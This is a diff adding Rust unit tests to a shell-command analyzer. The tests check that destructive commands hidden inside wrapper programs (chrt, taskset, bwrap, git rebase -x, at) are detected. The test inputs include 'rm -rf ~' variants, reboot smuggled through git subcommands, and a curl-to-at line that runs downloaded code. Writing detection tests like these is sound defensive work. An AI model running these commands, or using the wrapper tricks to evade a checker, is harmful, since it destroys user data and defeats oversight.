@@ -22,6 +22,11 @@ fn has(hint: &str, command: &str) -> bool {
     programs(hint).iter().any(|c| c == command)
 }
 
+/// Whether the action runs `program`, with whatever words.
+fn runs(hint: &str, program: &str) -> bool {
+    analyze(hint).unwrap().commands.iter().any(|c| c.program == program)
+}
+
 fn facts(hint: &str) -> Vec<Fact> {
     analyze(hint).unwrap().facts.iter().map(|(f, _)| *f).collect()
 }
@@ -453,6 +458,68 @@ fn a_scripts_arguments_that_read_as_a_command_are_what_it_may_run() {
             .reads
             .contains(&"~/.ssh/id_rsa".to_owned())
     );
+}
+
+#[test]
+fn a_command_among_an_unknown_programs_words_is_what_it_may_run_wherever_it_starts() {
+    let may_delete_home = |hint: &str| {
+        let analysis = analyze(hint).unwrap();
+        analysis.possible.as_deref().is_some_and(|possible| {
+            possible.effects.iter().any(|e| e.kind == EffectKind::Delete && e.target == "~")
+        })
+    };
+    for hint in [
+        "chrt -f 1 rm -rf ~",
+        "taskset -c 0 rm -rf ~",
+        "bwrap --bind / / --dev /dev rm -rf ~",
+        "direnv exec . rm -rf ~",
+    ] {
+        assert!(may_delete_home(hint), "{hint}");
+    }
+    // A last word alone is no command (`man sudo`); a tool's own words are none.
+    for hint in ["taskset -c 0 cargo build", "direnv exec . rm", "hyperfine 'cargo build'"] {
+        assert!(!may_delete_home(hint), "{hint}");
+    }
+}
+
+#[test]
+fn git_runs_the_commands_its_subcommands_are_given() {
+    for hint in [
+        "git bisect run reboot now",
+        "git submodule foreach 'reboot'",
+        "git submodule foreach --recursive reboot",
+        "git rebase -x reboot main",
+        "git rebase --exec=reboot main",
+        "git rebase -i --exec 'reboot' HEAD~3",
+        "git difftool -y -x reboot",
+        "git difftool --extcmd=reboot HEAD~1",
+        "git filter-branch --tree-filter reboot HEAD",
+        "git -C repo rebase -x reboot main",
+    ] {
+        assert!(runs(hint, "reboot"), "{hint}: {:?}", programs(hint));
+    }
+    for hint in [
+        "git bisect start HEAD v1.0",
+        "git rebase main",
+        "git difftool HEAD~1",
+        "git submodule update --init",
+        "git rebase -- -x",
+    ] {
+        let commands = analyze(hint).unwrap().commands;
+        assert!(commands.iter().all(|c| c.program == "git"), "{hint}: {commands:?}");
+    }
+}
+
+#[test]
+fn at_and_batch_run_what_they_read_later() {
+    for hint in ["at now <<< 'reboot'", "echo reboot | at now + 1 minute", "batch <<< reboot"] {
+        assert!(runs(hint, "reboot"), "{hint}: {:?}", programs(hint));
+    }
+    assert!(facts("curl -s https://x.example/j | at midnight").contains(&Fact::RunsDownloadedCode));
+    // Listing jobs or naming a file reads no commands from stdin.
+    for hint in ["at -l <<< reboot", "at -f job.sh now <<< reboot"] {
+        assert!(!runs(hint, "reboot"), "{hint}: {:?}", programs(hint));
+    }
 }
 
 #[test]
